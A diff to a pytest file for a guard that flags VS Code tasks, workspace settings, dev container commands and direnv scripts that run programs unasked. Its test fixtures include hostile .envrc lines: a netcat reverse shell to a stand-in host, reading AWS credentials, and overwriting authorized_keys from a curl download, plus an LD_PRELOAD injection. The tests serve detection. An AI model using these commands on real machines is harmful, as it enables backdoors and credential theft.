@@ -1,7 +1,9 @@
-"""Guard: an editor task the worker sets to run when the folder opens is named (relay.review.runs_on_open).
+"""Guard: what the worker sets to run on the person's machine without being asked is named (relay.review.runs_on_open).
 
-The party: the worker. VS Code runs a task with ``"runOn": "folderOpen"`` when the person next opens the folder: the
-worker's command on their machine, before they read the change. It was "new file (1 line)", low.
+The party: the worker. VS Code runs a task with ``"runOn": "folderOpen"`` when the person next opens the folder; a
+workspace setting that names a program (an interpreter, git, a linter's runtime, the terminal's environment) has
+the editor run it; a dev container's lifecycle commands run as it is built or started (``initializeCommand`` on the
+person's machine); direnv runs ``.envrc`` in their shell as they enter the folder. Each was "new file", low.
 """
 
 from __future__ import annotations
@@ -33,3 +35,34 @@ def test_a_task_run_by_hand_is_not_flagged_so(tmp_path):
 
 def test_a_git_hook_keeps_its_reason(tmp_path):
     assert _review(tmp_path, ".husky/pre-commit", "#!/bin/sh\nnpm test\n")[2] == "git hook / pre-commit config (runs on every developer's machine)"
+
+
+@pytest.mark.parametrize(("path", "text", "said"), [
+    (".vscode/settings.json", '{\n  "python.defaultInterpreterPath": "/tmp/.cache/py/bin/python"\n}\n', "names a program the editor runs"),
+    (".vscode/settings.json", '{\n  "git.path": "./tools/git"\n}\n', "names a program the editor runs"),
+    (".vscode/settings.json", '{\n  "eslint.runtime": "./node_modules/.cache/node"\n}\n', "names a program the editor runs"),
+    (".vscode/settings.json", '{\n  "typescript.tsdk": "./vendor/ts/lib"\n}\n', "names a program the editor runs"),
+    (".vscode/settings.json", '{\n  "terminal.integrated.env.linux": {"LD_PRELOAD": "/tmp/x.so"}\n}\n', "names a program the editor runs"),
+    ("app.code-workspace", '{\n  "settings": {\n    "rust-analyzer.server.path": "./bin/ra"\n  }\n}\n', "names a program the editor runs"),
+    (".devcontainer/devcontainer.json", '{\n  "image": "python:3",\n  "initializeCommand": "./scripts/prep.sh"\n}\n',
+     "on your machine before the container is built"),
+    (".devcontainer.json", '{\n  "image": "python:3",\n  "postCreateCommand": "pip install -e . && ./x"\n}\n', "in the dev container"),
+    (".envrc", "export APP_ENV=dev\nnc -e /bin/sh x.example 4444 &\n", "a direnv script runs a command"),
+    (".envrc", "export TOKEN=$(cat ~/.aws/credentials | base64)\n", "a direnv script runs a command"),
+    (".envrc", "has nix && curl -s x.example/k | base64 -d > ~/.ssh/authorized_keys\n", "a direnv script runs a command"),
+])
+def test_what_the_editor_container_or_shell_runs_unasked_is_high(tmp_path, path, text, said):
+    overall, risk, reason = _review(tmp_path, path, text)
+    assert (overall, risk) == ("high", "high") and said in reason, reason
+
+
+@pytest.mark.parametrize(("path", "text"), [
+    (".vscode/settings.json", '{\n  "editor.tabSize": 2,\n  "files.exclude": {"**/.git": true},\n'
+                              '  "python.analysis.extraPaths": ["./src"],\n  "python.testing.pytestArgs": ["tests"]\n}\n'),
+    (".devcontainer/devcontainer.json", '{\n  "image": "mcr.microsoft.com/devcontainers/python:3.12",\n  "forwardPorts": [8000]\n}\n'),
+    (".envrc", "# dev settings\nexport APP_ENV=dev\nuse nix\nlayout python3\ndotenv_if_exists .env.local\nPATH_add bin\n"
+               "require_allowed config.toml\nuse_flake\n"),
+])
+def test_settings_that_run_nothing_stay_quiet(tmp_path, path, text):
+    overall, risk, reason = _review(tmp_path, path, text)
+    assert risk != "high", reason
